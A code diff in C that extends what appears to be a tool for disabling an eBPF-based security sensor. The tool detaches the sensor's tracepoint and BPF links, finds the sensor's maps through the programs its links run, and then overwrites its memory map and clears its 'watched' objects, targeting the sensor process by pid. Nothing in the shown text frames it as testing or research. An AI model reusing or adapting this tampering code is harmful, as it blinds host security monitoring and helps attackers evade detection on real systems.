@@ -53,15 +53,42 @@ static bool close_there(int number)
 #endif
 }
 
-static bool detach(int fd, int number)
+static int detach(int fd, int number)
 {
 	struct bpf_link_info info = {};
 	__u32 length = sizeof(info);
 
 	/* A link of a tracepoint that is no raw one; before Linux 5.15 it was the event itself. */
 	if (bpf_obj_get_info_by_fd(fd, &info, &length) == 0 && info.type != BPF_LINK_TYPE_PERF_EVENT)
-		return false;
+		return 0;
 	return close_there(number);
+}
+
+/* The sensor has no descriptors of its maps; whoever has CAP_SYS_ADMIN finds them by what its links run. */
+static int each_map_of(int link, bool (*harm)(int fd))
+{
+	static __u32 seen[64];
+	static __u32 seen_count;
+	struct bpf_link_info of = {};
+	__u32 ids[64], length = sizeof(of);
+	struct bpf_prog_info program = { .nr_map_ids = 64, .map_ids = (__u64)(uintptr_t)ids };
+	int fd = bpf_obj_get_info_by_fd(link, &of, &length) ? -1 : bpf_prog_get_fd_by_id(of.prog_id);
+	int harmed = 0;
+
+	length = sizeof(program);
+	if (fd < 0 || bpf_obj_get_info_by_fd(fd, &program, &length))
+		return 0;
+	for (__u32 i = 0; i < program.nr_map_ids; i++) {
+		bool is_new = true;
+
+		for (__u32 j = 0; j < seen_count; j++)
+			is_new = is_new && seen[j] != ids[i];
+		if (!is_new || seen_count == 64)
+			continue;
+		seen[seen_count++] = ids[i];
+		harmed += harm(bpf_map_get_fd_by_id(ids[i]));
+	}
+	return harmed;
 }
 
 static bool map_named(int fd, const char *name, struct bpf_map_info *info)
@@ -72,9 +99,8 @@ static bool map_named(int fd, const char *name, struct bpf_map_info *info)
 	return bpf_obj_get_info_by_fd(fd, info, &length) == 0 && strcmp(info->name, name) == 0;
 }
 
-static bool overwrite_memory(int fd, int number)
+static bool overwrite_memory(int fd)
 {
-	(void)number;
 	struct bpf_map_info info;
 	void *at;
 
@@ -87,9 +113,8 @@ static bool overwrite_memory(int fd, int number)
 	return true;
 }
 
-static bool forget_watched(int fd, int number)
+static bool forget_watched(int fd)
 {
-	(void)number;
 	struct bpf_map_info info;
 	struct object key;
 
@@ -108,14 +133,26 @@ static int expire(const char *pin)
 	return 1;
 }
 
+static int harm_memory(int link, int number)
+{
+	(void)number;
+	return each_map_of(link, overwrite_memory);
+}
+
+static int harm_watched(int link, int number)
+{
+	(void)number;
+	return each_map_of(link, forget_watched);
+}
+
 static const struct {
 	const char *name, *link;
-	bool (*harm)(int fd, int number);
+	int (*harm)(int fd, int number);
 } ways[] = {
 	{ "links", "anon_inode:[perf_event]", detach },
 	{ "links", "anon_inode:bpf_link", detach },
-	{ "memory", "anon_inode:bpf-map", overwrite_memory },
-	{ "watched", "anon_inode:bpf-map", forget_watched },
+	{ "memory", "anon_inode:bpf_link", harm_memory },
+	{ "watched", "anon_inode:bpf_link", harm_watched },
 };
 
 static int harm_all(size_t way, const char *pid)
